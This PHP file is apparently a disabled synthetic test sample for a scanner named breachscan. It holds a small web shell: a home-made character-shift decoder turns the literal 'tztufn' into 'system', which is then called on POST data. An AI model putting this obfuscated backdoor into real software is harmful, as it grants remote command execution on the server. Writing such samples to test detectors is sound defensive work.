<?php
// synthetic test sample for breachscan: callback name computed by a home-made decoder from a
// literal, applied to request data. Disabled.
return;
function dec($s) { $o = ''; for ($i = 0; $i < strlen($s); $i++) $o .= chr(ord($s[$i]) - 1); return $o; }
$a = $_POST['a'];
call_user_func_array(dec('tztufn'), array($a));
